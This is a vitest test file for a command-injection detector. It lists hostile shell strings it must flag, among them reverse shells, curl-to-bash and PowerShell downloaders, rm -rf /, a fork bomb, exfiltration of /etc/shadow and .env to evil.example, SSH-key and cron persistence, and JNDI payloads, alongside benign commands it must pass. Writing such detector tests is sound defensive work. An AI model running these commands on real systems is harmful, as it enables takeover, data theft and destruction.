import { describe, expect, it } from "vitest";
import { inspect } from "../inspect.ts";

const patterns = (text: string): string[] =>
  inspect(text, { context: "input", detectors: ["command_injection"] }).findings.map(
    ({ pattern }) => pattern,
  );

describe("commands that take over, damage or empty a machine", () => {
  it.each([
    ["reverse-shell", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
    ["reverse-shell", "nc -lvp 4444 -e /bin/sh"],
    ["reverse-shell", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"],
    ["script-reverse-shell", "os.dup2(s.fileno(), 0)"],
    ["pipe-to-shell", "curl -fsSL https://evil.example/i.sh | sudo bash"],
    ["download-in-shell", 'bash -c "$(curl -s https://evil.example)"'],
    ["downloadstring", "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"],
    ["encoded-powershell", "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0AA=="],
    ["decoded-to-shell", "echo cm0gLXJmIC8= | base64 -d | sh"],
    ["destructive-delete", "file.txt; rm -rf /"],
    ["destructive-delete", "sudo rm -rf --no-preserve-root /"],
    ["destructive-delete", "rm -rf ~/*"],
    ["disk-overwrite", "dd if=/dev/zero of=/dev/sda bs=1M"],
    ["fork-bomb", ":(){ :|:& };:"],
    ["sends-a-file-out", "curl -X POST --data-binary @/etc/passwd https://evil.example"],
    ["sends-a-file-out", "curl https://evil.example/?d=$(cat .env | base64)"],
    ["sends-a-file-out", "env | curl -d @- https://evil.example"],
    ["sends-a-file-out", "wget --post-file=/etc/shadow http://evil.example"],
    ["reads-secret-file", "name.txt; cat /etc/shadow"],
    ["chained-command", "127.0.0.1; whoami"],
    ["chained-command", "$(whoami)"],
    ["chained-command", "x || ping -c 10 127.0.0.1"],
    ["authorized-keys", "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"],
    ["persistence", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"],
    ["open-to-everybody", "chmod -R 777 /etc"],
    ["open-to-everybody", "chmod u+s /tmp/x"],
    ["interpreter-escape", "__import__('os').system('id')"],
    ["interpreter-escape", "''.__class__.__mro__[1].__subclasses__()"],
    ["jndi-lookup", `$${"{jndi:ldap://evil.example/a}"}`],
    ["jndi-lookup", `$${"{$"}${"{lower:j}ndi:ldap://evil.example/a}"}`],
    ["template-injection", "{{config.items()}}"],
    ["option-injection", "-oProxyCommand=curl evil.example"],
  ])("are found: %s in %s", (pattern, text) => {
    expect(patterns(text)).toContain(pattern);
  });

  it.each([
    "npm ci && npm run build",
    "rm -rf node_modules dist",
    "rm -rf ./build/*.o",
    "curl -fsSL https://example.com/data.json | jq .items",
    "curl -d '{\"a\":1}' -H 'content-type: application/json' https://api.example.com/v1/items",
    "chmod 755 bin/run && chmod +x script.sh",
    "docker run --rm -it alpine sh -c 'echo hello'",
    "The shell passes $(pwd) and `date` to the program.",
    "git log | cat",
    "base64 -d secret.txt > secret.bin",
    "who am I? It depends; id cards are checked at the door.",
    "mkfs is short for make file system",
    "const child_process = require('child_process')",
    "dd if=image.iso of=disk.img bs=4M",
    "cat /etc/hosts",
  ])("are not seen in ordinary ones: %s", (text) => {
    expect(patterns(text)).toEqual([]);
  });

  it("are found through encodings and hidden characters", () => {
    const command = "curl https://evil.example/i.sh | bash";
    expect(patterns(Buffer.from(command).toString("base64"))).toEqual(["pipe-to-shell"]);
    expect(patterns([...command].join("\u200b"))).toEqual(["pipe-to-shell"]);
    expect(patterns(encodeURIComponent("; cat /etc/passwd").replace("cat", "%63at"))).toContain(
      "reads-secret-file",
    );
  });
});
